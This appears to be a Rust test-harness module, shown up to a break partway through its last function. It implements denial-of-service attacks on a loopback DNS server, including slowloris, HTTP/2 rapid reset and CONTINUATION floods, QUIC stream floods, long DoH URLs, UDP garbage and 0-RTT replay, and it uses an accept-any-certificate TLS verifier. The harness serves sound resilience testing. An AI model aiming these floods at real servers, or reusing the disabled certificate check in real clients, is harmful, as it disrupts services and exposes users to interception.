//! Attacks on a DNS server, for the abuse tests (`tests/abuse.rs`) and the abuse harness
//! (`examples/abuse.rs`, run by `bench/abuse_campaign.sh`): slowloris, idle connections,
//! stalled length prefixes, HTTP/2 rapid reset and CONTINUATION floods, QUIC stream floods,
//! long DoH URLs and UDP garbage. Each runs for a given time against one address, on a
//! current-thread tokio runtime, and reports what it did and how the server answered it
//! (connections it closed, requests it took). Loopback only. Certificates are not checked:
//! the attacker does not care whom it talks to.

#![allow(dead_code)]

use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::atomic::{AtomicU64, Ordering::Relaxed};
use std::sync::Arc;
use std::time::{Duration, Instant};

use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};

/// Which attack.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    /// Requests dribbled a byte at a time (`interval` apart), again and again.
    Slowloris,
    /// Connections opened (TLS, QUIC: handshake done) and held without a byte (a query).
    Idle,
    /// A length prefix announcing 65,535 bytes, ten of them sent, then nothing.
    Stall,
    /// HTTP/2: a GET request, then RST_STREAM at once, in a loop (CVE-2023-44487).
    RapidReset,
    /// HTTP/2: a HEADERS frame without END_HEADERS, then CONTINUATION frames without end.
    Continuation,
    /// HTTP/2: header blocks of 1 MiB (HEADERS and CONTINUATIONs, then END_HEADERS), in a loop.
    BigHeaders,
    /// QUIC (DoQ, DoH/3): streams opened with a part of a request and never finished; at the
    /// stream limit the oldest is reset and another opened.
    QuicStreams,
    /// DoH/1.1: GET requests with a 64 KiB URL.
    LongUrl,
    /// UDP: malformed datagrams as fast as the socket takes them.
    UdpGarbage,
    /// TLS early data (DoT) or QUIC 0-RTT (DoQ, DoH/3) replayed: a client resumes with a
    /// ticket and sends a query as early data (its handshake completed, its answer read);
    /// its first flight, recorded byte for byte, is then sent again and again on new
    /// connections (TCP) or from new ports (QUIC).
    ZeroRttReplay,
}

impl std::str::FromStr for Attack {
    type Err = String;
    fn from_str(s: &str) -> Result<Attack, String> {
        Ok(match s {
            "slowloris" => Attack::Slowloris,
            "idle" => Attack::Idle,
            "stall" => Attack::Stall,
            "rapid-reset" => Attack::RapidReset,
            "continuation" => Attack::Continuation,
            "big-headers" => Attack::BigHeaders,
            "quic-streams" => Attack::QuicStreams,
            "long-url" => Attack::LongUrl,
            "udp-garbage" => Attack::UdpGarbage,
            "0rtt-replay" => Attack::ZeroRttReplay,
            _ => return Err(format!("unknown attack '{s}'")),
        })
    }
}

/// What an attack speaks to the server.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Proto {
    Udp,
    Tcp,
    Dot,
    /// DoH over HTTP/1.1 (ALPN http/1.1).
    Doh1,
    /// DoH over HTTP/2 (ALPN h2).
    Doh2,
    Doq,
    Doh3,
}

impl std::str::FromStr for Proto {
    type Err = String;
    fn from_str(s: &str) -> Result<Proto, String> {
        Ok(match s {
            "udp" => Proto::Udp,
            "tcp" => Proto::Tcp,
            "dot" => Proto::Dot,
            "doh1" => Proto::Doh1,
            "doh2" => Proto::Doh2,
            "doq" => Proto::Doq,
            "doh3" => Proto::Doh3,
            _ => return Err(format!("unknown protocol '{s}'")),
        })
    }
}

/// How to run an attack.
#[derive(Debug, Clone)]
pub struct Plan {
    pub attack: Attack,
    pub proto: Proto,
    pub target: SocketAddr,
    /// Connections (or QUIC connections, or UDP sockets) at once.
    pub conns: usize,
    pub duration: Duration,
    /// Slowloris: time between two bytes.
    pub interval: Duration,
    /// Source addresses 127.0.0.1 .. 127.0.0.N, round robin (more connections than one
    /// source address has ports).
    pub sources: u8,
}

/// What an attack did.
#[derive(Debug, Default)]
pub struct Tally {
    /// Connections established (TLS: handshake done).
    pub opened: AtomicU64,
    /// Connections that failed to open (refused, reset, handshake failed).
    pub failed: AtomicU64,
    /// Connections the server ended (EOF, reset, GOAWAY, CONNECTION_CLOSE).
    pub closed_by_server: AtomicU64,
    /// Requests, frames or datagrams sent.
    pub sent: AtomicU64,
    /// Bytes sent.
    pub bytes: AtomicU64,
    /// Responses read (where the attack reads any).
    pub responses: AtomicU64,
    /// 0-RTT replay: whether the server accepted the original flight's early data (1) or not.
    pub early_accepted: AtomicU64,
}

impl Tally {
    /// One line of JSON.
    pub fn json(&self, plan: &Plan) -> String {
        format!(
            "{{\"attack\":\"{:?}\",\"proto\":\"{:?}\",\"conns\":{},\"opened\":{},\"failed\":{},\"closed_by_server\":{},\"sent\":{},\"bytes\":{},\"responses\":{},\"early_accepted\":{}}}",
            plan.attack,
            plan.proto,
            plan.conns,
            self.opened.load(Relaxed),
            self.failed.load(Relaxed),
            self.closed_by_server.load(Relaxed),
            self.sent.load(Relaxed),
            self.bytes.load(Relaxed),
            self.responses.load(Relaxed),
            self.early_accepted.load(Relaxed),
        )
    }
}

/// Runs an attack to its end (blocking the calling thread).
pub fn run(plan: Plan) -> Arc<Tally> {
    let _ = rustls::crypto::ring::default_provider().install_default();
    let tally = Arc::new(Tally::default());
    let rt = tokio::runtime::Builder::new_current_thread().enable_all().build().expect("tokio runtime");
    let local = tokio::task::LocalSet::new();
    let t = tally.clone();
    local.block_on(&rt, async move {
        let deadline = Instant::now() + plan.duration;
        let plan = Arc::new(plan);
        if plan.attack == Attack::UdpGarbage {
            udp_garbage(&plan, &t, deadline).await;
            return;
        }
        if plan.attack == Attack::ZeroRttReplay {
            zero_rtt_replay(plan.clone(), t.clone(), deadline).await;
            return;
        }
        let mut tasks = Vec::new();
        for i in 0..plan.conns {
            let (plan, t) = (plan.clone(), t.clone());
            tasks.push(tokio::task::spawn_local(async move {
                let _ = tokio::time::timeout_at(deadline.into(), lane(i, &plan, &t)).await;
            }));
            // Open connections in bursts, not all in one go (the listener's backlog).
            if i % 256 == 255 {
                tokio::task::yield_now().await;
                tokio::time::sleep(Duration::from_millis(2)).await;
            }
        }
        for task in tasks {
            let _ = task.await;
        }
    });
    tally
}

/// One connection's attack, again on a new connection each time the server ends one.
async fn lane(i: usize, plan: &Plan, t: &Tally) {
    loop {
        let r = match plan.attack {
            Attack::Slowloris => slowloris(i, plan, t).await,
            Attack::Idle => idle(i, plan, t).await,
            Attack::Stall => stall(i, plan, t).await,
            Attack::RapidReset => rapid_reset(i, plan, t).await,
            Attack::Continuation => h2_headers(i, plan, t, None).await,
            Attack::BigHeaders => h2_headers(i, plan, t, Some(1 << 20)).await,
            Attack::QuicStreams => quic_streams(plan, t).await,
            Attack::LongUrl => long_url(i, plan, t).await,
            Attack::UdpGarbage | Attack::ZeroRttReplay => Ok(()),
        };
        match r {
            Ok(()) => {
                t.closed_by_server.fetch_add(1, Relaxed);
            }
            Err(Failed::Connect) => {
                t.failed.fetch_add(1, Relaxed);
                tokio::time::sleep(Duration::from_millis(50)).await;
            }
        }
    }
}

/// Why a lane's connection ended other than by the server.
enum Failed {
    Connect,
}

// ---------------------------------------------------------------------------------------
// Connections

/// A byte stream: TCP or TLS over TCP.
trait Io: AsyncRead + AsyncWrite + Unpin {}
impl<T: AsyncRead + AsyncWrite + Unpin> Io for T {}

async fn tcp(i: usize, plan: &Plan) -> std::io::Result<TcpStream> {
    let s = TcpSocket::new_v4()?;
    if plan.sources > 1 {
        let src = Ipv4Addr::new(127, 0, 0, 1 + (i % plan.sources as usize) as u8);
        s.bind(SocketAddr::new(IpAddr::V4(src), 0))?;
    }
    let stream = tokio::time::timeout(Duration::from_secs(10), s.connect(plan.target))
        .await
        .map_err(|_| std::io::Error::from(std::io::ErrorKind::TimedOut))??;
    stream.set_nodelay(true)?;
    Ok(stream)
}

/// Accepts any certificate.
#[derive(Debug)]
struct AnyCert(Arc<rustls::crypto::CryptoProvider>);

impl rustls::client::danger::ServerCertVerifier for AnyCert {
    fn verify_server_cert(
        &self,
        _: &rustls::pki_types::CertificateDer<'_>,
        _: &[rustls::pki_types::CertificateDer<'_>],
        _: &rustls::pki_types::ServerName<'_>,
        _: &[u8],
        _: rustls::pki_types::UnixTime,
    ) -> Result<rustls::client::danger::ServerCertVerified, rustls::Error> {
        Ok(rustls::client::danger::ServerCertVerified::assertion())
    }
    fn verify_tls12_signature(
        &self,
        m: &[u8],
        c: &rustls::pki_types::CertificateDer<'_>,
        d: &rustls::DigitallySignedStruct,
    ) -> Result<rustls::client::danger::HandshakeSignatureValid, rustls::Error> {
        rustls::crypto::verify_tls12_signature(m, c, d, &self.0.signature_verification_algorithms)
    }
    fn verify_tls13_signature(
        &self,
        m: &[u8],
        c: &rustls::pki_types::CertificateDer<'_>,
        d: &rustls::DigitallySignedStruct,
    ) -> Result<rustls::client::danger::HandshakeSignatureValid, rustls::Error> {
        rustls::crypto::verify_tls13_signature(m, c, d, &self.0.signature_verification_algorithms)
    }
    fn supported_verify_schemes(&self) -> Vec<rustls::SignatureScheme> {
        self.0.signature_verification_algorithms.supported_schemes()
    }
}

fn tls_config(alpn: &[u8]) -> rustls::ClientConfig {
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let mut c = rustls::ClientConfig::builder_with_provider(provider.clone())
        .with_safe_default_protocol_versions()
        .expect("TLS versions")
        .dangerous()
        .with_custom_certificate_verifier(Arc::new(AnyCert(provider)))
        .with_no_client_auth();
    c.alpn_protocols = vec![alpn.to_vec()];
    c.resumption = rustls::client::Resumption::disabled();
    c
}

/// A connection as the protocol has it: TCP, or TLS with its ALPN.
async fn connect(i: usize, plan: &Plan) -> Result<Box<dyn Io>, Failed> {
    let s = tcp(i, plan).await.map_err(|_| Failed::Connect)?;
    let alpn: &[u8] = match plan.proto {
        Proto::Tcp => return Ok(Box::new(s)),
        Proto::Dot => b"dot",
        Proto::Doh1 => b"http/1.1",
        _ => b"h2",
    };
    let connector = tokio_rustls::TlsConnector::from(Arc::new(tls_config(alpn)));
    let name = rustls::pki_types::ServerName::try_from("localhost").expect("a name");
    match tokio::time::timeout(Duration::from_secs(10), connector.connect(name, s)).await {
        Ok(Ok(tls)) => Ok(Box::new(tls)),
        _ => Err(Failed::Connect),
    }
}

/// Waits until the server ends the connection (EOF or error), reading and dropping what it
/// sends.
async fn until_closed(io: &mut (impl AsyncRead + Unpin)) {
    let mut sink = [0u8; 4096];
    while let Ok(n) = io.read(&mut sink).await {
        if n == 0 {
            break;
        }
    }
}

// ---------------------------------------------------------------------------------------
// Requests

/// A DNS query for `www.example.test` A (or `name`), with this ID.
pub fn query(id: u16, name: &str) -> Vec<u8> {
    let mut q = Vec::with_capacity(64);
    q.extend_from_slice(&id.to_be_bytes());
    q.extend_from_slice(&[0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0]);
    for label in name.trim_end_matches('.').split('.') {
        q.push(label.len() as u8);
        q.extend_from_slice(label.as_bytes());
    }
    q.extend_from_slice(&[0, 0, 1, 0, 1]);
    q
}

/// Unpadded base64url.
pub fn base64url(data: &[u8]) -> String {
    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let mut s = String::with_capacity(data.len() * 4 / 3 + 4);
    for c in data.chunks(3) {
        let n = (c[0] as u32) << 16 | (*c.get(1).unwrap_or(&0) as u32) << 8 | *c.get(2).unwrap_or(&0) as u32;
        for k in 0..=c.len() {
            s.push(A[(n >> (18 - 6 * k) & 63) as usize] as char);
        }
    }
    s
}

/// One whole request of the protocol (TCP and DoT: length-prefixed; DoH/1.1: a GET).
fn request(proto: Proto, id: u16) -> Vec<u8> {
    let q = query(id, "www.example.test");
    match proto {
        Proto::Doh1 => format!(
            "GET /dns-query?dns={} HTTP/1.1\r\nhost: localhost\r\naccept: application/dns-message\r\n\r\n",
            base64url(&q)
        )
        .into_bytes(),
        _ => {
            let mut f = (q.len() as u16).to_be_bytes().to_vec();
            f.extend_from_slice(&q);
            f
        }
    }
}

// ---------------------------------------------------------------------------------------
// Stream attacks

async fn slowloris(i: usize, plan: &Plan, t: &Tally) -> Result<(), Failed> {
    let mut io = connect(i, plan).await?;
    t.opened.fetch_add(1, Relaxed);
    let mut id = 0u16;
    let mut sink = [0u8; 4096];
    loop {
        id = id.wrapping_add(1);
        for b in request(plan.proto, id) {
            if io.write_all(&[b]).await.is_err() || io.flush().await.is_err() {
                return Ok(());
            }
            t.bytes.fetch_add(1, Relaxed);
            // Wait a byte's interval, noticing meanwhile whether the server closed.
            tokio::select! {
                _ = tokio::time::sleep(plan.interval) => {}
                r = io.read(&mut sink) => match r {
                    Ok(0) | Err(_) => return Ok(()),
                    Ok(_) => { t.responses.fetch_add(1, Relaxed); }
                },
            }
        }
        t.sent.fetch_add(1, Relaxed);
    }
}

async fn idle(i: usize, plan: &Plan, t: &Tally) -> Result<(), Failed> {
    if matches!(plan.proto, Proto::Doq | Proto::Doh3) {
        // A QUIC connection that asks nothing, until the server closes it.
        let (_ep, conn) = quic_connect(plan).await?;
        t.opened.fetch_add(1, Relaxed);
        conn.closed().await;
        return Ok(());
    }
    let mut io = connect(i, plan).await?;
    t.opened.fetch_add(1, Relaxed);
    until_closed(&mut io).await;
    Ok(())
}

async fn stall(i: usize, plan: &Plan, t: &Tally) -> Result<(), Failed> {
    let mut io = connect(i, plan).await?;
    t.opened.fetch_add(1, Relaxed);
    let mut head = vec![0xFF, 0xFF];
    head.extend_from_slice(&query(1, "stall.test")[..10]);
    if io.write_all(&head).await.is_err() || io.flush().await.is_err() {
        return Ok(());
    }
    t.sent.fetch_add(1, Relaxed);
    t.bytes.fetch_add(head.len() as u64, Relaxed);
    until_closed(&mut io).await;
    Ok(())
}

async fn long_url(i: usize, plan: &Plan, t: &Tally) -> Result<(), Failed> {
    let mut io = connect(i, plan).await?;
    t.opened.fetch_add(1, Relaxed);
    let path = format!("/dns-query?dns={}", "A".repeat(64 * 1024));
    let req = format!("GET {path} HTTP/1.1\r\nhost: localhost\r\naccept: application/dns-message\r\n\r\n");
    let mut buf = vec![0u8; 16 * 1024];
    loop {
        if io.write_all(req.as_bytes()).await.is_err() || io.flush().await.is_err() {
            return Ok(());
        }
        t.sent.fetch_add(1, Relaxed);
        t.bytes.fetch_add(req.len() as u64, Relaxed);
        // One response (its head at least), or the end of the connection.
        match tokio::time::timeout(Duration::from_secs(5), io.read(&mut buf)).await {
            Ok(Ok(n)) if n > 0 => {
                t.responses.fetch_add(1, Relaxed);
                if buf[..n].windows(17).any(|w| w.eq_ignore_ascii_case(b"connection: close")) {
                    until_closed(&mut io).await;
                    return Ok(());
                }
            }
            Ok(_) => return Ok(()),
            Err(_) => {}
        }
    }
}

/// One DoH GET whose URL is `/dns-query?dns=` and `len` octets of `A` over `proto` (DoH/1.1,
/// DoH/2, DoH/3): the response's status, or how the server ended the request instead.
pub fn long_get(proto: Proto, target: SocketAddr, len: usize) -> Result<u16, String> {
    let _ = rustls::crypto::ring::default_provider().install_default();
    let rt = tokio::runtime::Builder::new_current_thread().enable_all().build().expect("tokio runtime");
    let local = tokio::task::LocalSet::new();
    let plan = Plan {
        attack: Attack::LongUrl,
        proto,
        target,
        conns: 1,
        duration: Duration::from_secs(10),
        interval: Duration::from_secs(1),
        sources: 1,
    };
    let path = format!("/dns-query?dns={}", "A".repeat(len));
    local.block_on(&rt, async move {
        let work = async {
            match proto {
                Proto::Doh1 => {
                    let mut io = connect(0, &plan).await.map_err(|_| "connect".to_string())?;
                    let req =
                        format!("GET {path} HTTP/1.1\r\nhost: localhost\r\naccept: application/dns-message\r\n\r\n");
                    io.write_all(req.as_bytes()).await.map_err(|e| format!("write: {e}"))?;
                    let mut buf = vec![0u8; 4096];
                    let n = io.read(&mut buf).await.map_err(|e| format!("read: {e}"))?;
                    let head = String::from_utf8_lossy(&buf[..n]);
                    head.strip_prefix("HTTP/1.1 ")
                        .and_then(|r| r.get(..3))
                        .and_then(|c| c.parse().ok())
                        .ok_or_else(|| format!("no status line (read {n} bytes): {head:?}"))
                }
                Proto::Doh2 => {
                    let io = connect(0, &plan).await.map_err(|_| "connect".to_string())?;
                    let (client, conn) = h2::client::handshake(io).await.map_err(|e| format!("h2 handshake: {e}"))?;
                    tokio::task::spawn_local(async move {
                        let _ = conn.await;
                    });
                    let mut client = client.ready().await.map_err(|e| format!("h2 ready: {e}"))?;
                    let uri = format!("https://localhost{path}");
                    let req = http::Request::get(uri).header("accept", "application/dns-message").body(()).unwrap();
                    let (resp, _) = client.send_request(req, true).map_err(|e| format!("h2 send: {e}"))?;
                    let resp = resp.await.map_err(|e| format!("h2 response: {e}"))?;
                    Ok(resp.status().as_u16())
                }
                Proto::Doh3 => {
                    let mut tls = tls_config(b"h3");
                    tls.enable_early_data = false;
                    let crypto = quinn::crypto::rustls::QuicClientConfig::try_from(tls).map_err(|e| e.to_string())?;
                    let mut ep = quinn::Endpoint::client(SocketAddr::from((Ipv4Addr::LOCALHOST, 0)))
                        .map_err(|e| e.to_string())?;
                    ep.set_default_client_config(quinn::ClientConfig::new(Arc::new(crypto)));
                    let conn =
                        ep.connect(target, "localhost").map_err(|e| e.to_string())?.await.map_err(|e| e.to_string())?;
                    let (mut driver, mut send) =
                        h3::client::new(h3_quinn::Connection::new(conn)).await.map_err(|e| format!("h3 setup: {e}"))?;
                    tokio::task::spawn_local(async move {
                        let _ = std::future::poll_fn(|cx| driver.poll_close(cx)).await;
                    });
                    let uri = format!("https://localhost{path}");
                    let req = http::Request::get(uri).header("accept", "application/dns-message").body(()).unwrap();
                    let mut stream = send.send_request(req).await.map_err(|e| format!("h3 send: {e}"))?;
                    stream.finish().await.map_err(|e| format!("h3 finish: {e}"))?;
                    let resp = stream.recv_response().await.map_err(|e| format!("h3 response: {e}"))?;
                    Ok(resp.status().as_u16())
                }
                _ => Err("long_get speaks DoH/1.1, DoH/2 and DoH/3".to_string()),
            }
        };
        tokio::time::timeout(Duration::from_secs(10), work).await.unwrap_or_else(|_| Err("no response in 10 s".into()))
    })
}

// ---------------------------------------------------------------------------------------
// HTTP/2

async fn rapid_reset(i: usize, plan: &Plan, t: &Tally) -> Result<(), Failed> {
    let io = connect(i, plan).await?;
    let Ok((mut client, conn)) = h2::client::handshake(io).await else { return Err(Failed::Connect) };
    t.opened.fetch_add(1, Relaxed);
    let driver = tokio::task::spawn_local(async move {
        let _ = conn.await;
    });
    let uri = format!("https://localhost/dns-query?dns={}", base64url(&query(0, "www.example.test")));
    loop {
        client = match client.ready().await {
            Ok(c) => c,
            Err(_) => break,
        };
        let req = http::Request::get(uri.as_str()).header("accept", "application/dns-message").body(()).unwrap();
        match client.send_request(req, true) {
            Ok((resp, mut stream)) => {
                stream.send_reset(h2::Reason::CANCEL);
                drop(resp);
                t.sent.fetch_add(1, Relaxed);
            }
            Err(_) => break,
        }
        // Let the connection task write (and read) now and then.
        if t.sent.load(Relaxed).is_multiple_of(64) {
            tokio::task::yield_now().await;
        }
        if driver.is_finished() {
            break;
        }
    }
    driver.abort();
    Ok(())
}

/// An HTTP/2 frame header.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = payload.len() as u32;
    let mut f = vec![(len >> 16) as u8, (len >> 8) as u8, len as u8, kind, flags];
    f.extend_from_slice(&stream.to_be_bytes());
    f.extend_from_slice(payload);
    f
}

/// HPACK literal header fields without indexing, `bytes` of them (at least), names
/// `x-flood-NNNN` and 100-octet values.
fn hpack_junk(bytes: usize) -> Vec<u8> {
    let mut b = Vec::with_capacity(bytes + 128);
    let mut n = 0u32;
    while b.len() < bytes {
        let name = format!("x-flood-{n:04}");
        b.push(0x00);
        b.push(name.len() as u8);
        b.extend_from_slice(name.as_bytes());
        b.push(100);
        b.extend_from_slice(&[b'v'; 100]);
        n = (n + 1) % 10_000;
    }
    b
}

/// Raw HTTP/2: the preface and SETTINGS, then on each new stream a HEADERS frame (GET, no
/// END_HEADERS) followed by CONTINUATION frames of 16 KiB: `block` octets in all, then
/// END_HEADERS and the next stream; None: never ending.
async fn h2_headers(i: usize, plan: &Plan, t: &Tally, block: Option<usize>) -> Result<(), Failed> {
    let io = connect(i, plan).await?;
    t.opened.fetch_add(1, Relaxed);
    let (mut rd, mut wr) = tokio::io::split(io);
    // Read (and drop) what the server says, so that it never waits on us; ends at its close.
    let reader = tokio::task::spawn_local(async move { until_closed(&mut rd).await });
    let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    out.extend(frame(4, 0, 0, &[]));
    if wr.write_all(&out).await.is_err() {
        return Ok(());
    }
    let chunk = hpack_junk(16 * 1024);
    let chunk = &chunk[..16 * 1024];
    let mut stream = 1u32;
    'streams: loop {
        // :method GET, :scheme https, :path /, :authority localhost
        let mut first = vec![0x82, 0x87, 0x84, 0x41, 9];
        first.extend_from_slice(b"localhost");
        if wr.write_all(&frame(1, 0x1, stream, &first)).await.is_err() {
            break;
        }
        t.sent.fetch_add(1, Relaxed);
        let mut sent = 0usize;
        loop {
            let last = block.is_some_and(|b| sent + chunk.len() >= b);
            let f = frame(9, if last { 0x4 } else { 0 }, stream, chunk);
            if reader.is_finished() || wr.write_all(&f).await.is_err() {
                break 'streams;
            }
            t.bytes.fetch_add(f.len() as u64, Relaxed);
            sent += chunk.len();
            if last {
                break;
            }
        }
        stream += 2;
    }
    reader.abort();
    Ok(())
}

// ---------------------------------------------------------------------------------------
// QUIC

/// A QUIC connection (DoQ or HTTP/3 by `plan.proto`) from an endpoint of its own, which the
/// caller keeps while it uses the connection.
async fn quic_connect(plan: &Plan) -> Result<(quinn::Endpoint, quinn::Connection), Failed> {
    let alpn: &[u8] = if plan.proto == Proto::Doh3 { b"h3" } else { b"doq" };
    let mut tls = tls_config(alpn);
    tls.enable_early_data = false;
    let Ok(crypto) = quinn::crypto::rustls::QuicClientConfig::try_from(tls) else { return Err(Failed::Connect) };
    let cfg = quinn::ClientConfig::new(Arc::new(crypto));
    let Ok(mut ep) = quinn::Endpoint::client(SocketAddr::from((Ipv4Addr::LOCALHOST, 0))) else {
        return Err(Failed::Connect);
    };
    ep.set_default_client_config(cfg);
    let Ok(connecting) = ep.connect(plan.target, "localhost") else { return Err(Failed::Connect) };
    match tokio::time::timeout(Duration::from_secs(10), connecting).await {
        Ok(Ok(c)) => Ok((ep, c)),
        _ => Err(Failed::Connect),
    }
}

async fn quic_streams(plan: &Plan, t: &Tally) -> Result<(), Failed> {
    let (_ep, conn) = quic_connect(plan).await?;
    t.opened.fetch_add(1, Relaxed);
    // A part of a request: DoQ, a length prefix of 65,535 and 10 octets; HTTP/3, the start
    // of a HEADERS frame announcing 16 KiB.
    let part: &[u8] = if plan.proto == Proto::Doh3 {
        &[0x01, 0x80, 0x00, 0x40, 0x00, 0, 0]
    } else {
        &[0xFF, 0xFF, 0, 1, 1, 0, 0, 1, 0, 0, 0, 0]
    };
    let mut held: std::collections::VecDeque<quinn::SendStream> = std::collections::VecDeque::new();
    loop {
        let opened = tokio::time::timeout(Duration::from_millis(20), conn.open_bi()).await;
        match opened {
            Ok(Ok((mut send, _recv))) => {
                if send.write_all(part).await.is_err() {
                    break;
                }
                t.sent.fetch_add(1, Relaxed);
                t.bytes.fetch_add(part.len() as u64, Relaxed);
                held.push_back(send);
            }
            Ok(Err(_)) => break,
            Err(_) => {
                // At the stream limit: reset the oldest ones, so that the server frees them.
                for _ in 0..16 {
                    if let Some(mut s) = held.pop_front() {
                        let _ = s.reset(0u32.into());
                    }
                }
            }
        }
        if conn.close_reason().is_some() {
            break;
        }
    }
    Ok(())
}

// ---------------------------------------------------------------------------------------
// 0-RTT replay

/// A client config that resumes and offers early data (its session store shared by the
/// connections made with it).
fn resuming_config(alpn: &[u8]) -> rustls::ClientConfig {
    let mut c = tls_config(alpn);
    c.resumption = rustls::client::Resumption::in_memory_sessions(8);
    c.enable_early_data = true;
    c
}

/// DoT: a full handshake and a query (the ticket arrives before the answer); then a resumed
/// connection whose ClientHello carries a query as early data. Its first flight (ClientHello
/// and the early data records, written before any byte from the server) is returned, after
/// the handshake was completed and the answer read. A server whose tickets allow no early
/// data (or that gave none) gets the ClientHello alone, and the query after the handshake.
/// Blocking (rustls on std sockets).
fn dot_first_flight(target: SocketAddr, t: &Tally) -> Option<Vec<u8>> {
    use std::io::{Read, Write};
    let config = Arc::new(resuming_config(b"dot"));
    let name = rustls::pki_types::ServerName::try_from("localhost").ok()?;
    let frame = |id| {
        let q = query(id, "www.example.test");
        let mut f = (q.len() as u16).to_be_bytes().to_vec();
        f.extend_from_slice(&q);
        f
    };
    let ask = |conn: &mut rustls::ClientConnection, sock: &mut std::net::TcpStream| -> Option<()> {
        let mut tls = rustls::Stream::new(conn, sock);
        let mut len = [0u8; 2];
        tls.read_exact(&mut len).ok()?;
        let mut answer = vec![0u8; u16::from_be_bytes(len) as usize];
        tls.read_exact(&mut answer).ok()
    };
    let mut sock = std::net::TcpStream::connect(target).ok()?;
    sock.set_read_timeout(Some(Duration::from_secs(5))).ok()?;
    let mut conn = rustls::ClientConnection::new(config.clone(), name.clone()).ok()?;
    rustls::Stream::new(&mut conn, &mut sock).write_all(&frame(1)).ok()?;
    ask(&mut conn, &mut sock)?;
    drop(sock);
    // Resumed, with the query as early data.
    let mut conn = rustls::ClientConnection::new(config, name).ok()?;
    if let Some(mut early) = conn.early_data() {
        early.write_all(&frame(2)).ok()?;
    }
    let mut flight = Vec::new();
    while conn.wants_write() {
        conn.write_tls(&mut flight).ok()?;
    }
    let mut sock = std::net::TcpStream::connect(target).ok()?;
    sock.set_read_timeout(Some(Duration::from_secs(5))).ok()?;
    sock.write_all(&flight).ok()?;
    while conn.is_handshaking() {
        conn.complete_io(&mut sock).ok()?;
    }
    t.early_accepted.store(u64::from(conn.is_early_data_accepted()), Relaxed);
    if !conn.is_early_data_accepted() {
        rustls::Stream::new(&mut conn, &mut sock).write_all(&frame(2)).ok()?;
    }
    ask(&mut conn, &mut sock)?;
    Some(flight)
}

/// QUIC (DoQ, or DoH/3 with `alpn` h3): a connection that gets a ticket, then a resumed one
/// through a relay that records the client's datagrams until the server's first one: the
/// Initial (ClientHello) and the 0-RTT packets carrying the query (DoQ: a stream; DoH/3: a
/// GET). Returns them once the answer was read.
async fn quic_first_flight(proto: Proto, target: SocketAddr, t: &Tally) -> Option<Vec<Vec<u8>>> {
    let alpn: &[u8] = if proto == Proto::Doh3 { b"h3" } else { b"doq" };
    let crypto = quinn::crypto::rustls::QuicClientConfig::try_from(resuming_config(alpn)).ok()?;
    let mut ep = quinn::Endpoint::client(SocketAddr::from((Ipv4Addr::LOCALHOST, 0))).ok()?;
    ep.set_default_client_config(quinn::ClientConfig::new(Arc::new(crypto)));
    let ask = |conn: quinn::Connection| async move {
        if proto == Proto::Doh3 {
            let (mut driver, mut send) = h3::client::new(h3_quinn::Connection::new(conn)).await.ok()?;
            tokio::task::spawn_local(async move {
                let _ = std::future::poll_fn(|cx| driver.poll_close(cx)).await;
            });
            let uri = format!("https://localhost/dns-query?dns={}", base64url(&query(0, "www.example.test")));
            let req = http::Request::get(uri).header("accept", "application/dns-message").body(()).ok()?;
            let mut stream = send.send_request(req).await.ok()?;
            stream.finish().await.ok()?;
            let resp = stream.recv_response().await.ok()?;
            (resp.status() == 200).then_some(())
        } else {
            let (mut send, mut recv) = conn.open_bi().await.ok()?;
            let q = query(0, "www.example.test");
            let mut f = (q.len() as u16).to_be_bytes().to_vec();
            f.extend_from_slice(&q);
            send.write_all(&f).await.ok()?;
            send.finish().ok()?;
            let answer = recv.read_to_end(65_537).await.ok()?;
            (answer.len() > 2).then_some(())
        }
    };
    let first = ep.connect(target, "localhost").ok()?.await.ok()?;
    ask(first.clone()).await?;
    // The ticket comes after the handshake: give it a moment, then close.
    tokio::time::sleep(Duration::from_millis(200)).await;
    first.close(0u32.into(), b"");
    // The relay: the client talks to `near`, which forwards to the server from `far`.
    let near = tokio::net::UdpSocket::bind((Ipv4Addr::LOCALHOST, 0)).await.ok()?;
    let far = tokio::net::UdpSocket::bind((Ipv4Addr::LOCALHOST, 0)).await.ok()?;
    far.connect(target).await.ok()?;
    let near_addr = near.local_addr().ok()?;
    let relay = tokio::task::spawn_local(async move {
        let mut flight: Vec<Vec<u8>> = Vec::new();
        let mut recording = true;
        let mut client = None;
        let (mut a, mut b) = (vec![0u8; 65_536], vec![0u8; 65_536]);
        loop {
            tokio::select! {
                r = near.recv_from(&mut a) => {
                    let Ok((n, from)) = r else { break };
                    client = Some(from);
                    if recording {
                        flight.push(a[..n].to_vec());
                    }
                    let _ = far.send(&a[..n]).await;
                }
                r = far.recv(&mut b) => {
                    let Ok(n) = r else { break };
                    recording = false;
                    if let Some(c) = client {
                        let _ = near.send_to(&b[..n], c).await;
                    }
                }
                _ = tokio::time::sleep(Duration::from_secs(2)), if !recording => break,
            }
        }
        flight
    });
    let connecting = ep.connect(near_addr, "localhost").ok()?;
    let (conn, accepted) = connecting.into_0rtt().ok()?;
    let answered = ask(conn.clone()).await;
    let accepted = accepted.await;
    t.early_accepted.store(u64::from(accepted), Relaxed);
    answered?;
    conn.close(0u32.into(), b"");
    let flight = relay.await.ok()?;
    (!flight.is_empty()).then_some(flight)
}

/// Records a 0-RTT first flight, then has `plan.conns` lanes send it again and again until
/// the deadline: DoT on a new TCP connection each time (then read until the server closes
/// it, or `interval`); QUIC from a new UDP port each time (reading what comes back for
/// `interval`).
async fn zero_rtt_replay(plan: Arc<Plan>, t: Arc<Tally>, deadline: Instant) {
    let (target, proto) = (plan.target, plan.proto);
    let flight: Vec<Vec<u8>> = if proto == Proto::Dot {
        let t2 = t.clone();
        match tokio::task::spawn_blocking(move || dot_first_flight(target, &t2)).await {
            Ok(Some(f)) => vec![f],
            _ => Vec::new(),
        }
    } else {
        quic_first_flight(proto, target, &t).await.unwrap_or_default()
    };
    if flight.is_empty() {
        t.failed.fetch_add(1, Relaxed);
        return;
    }
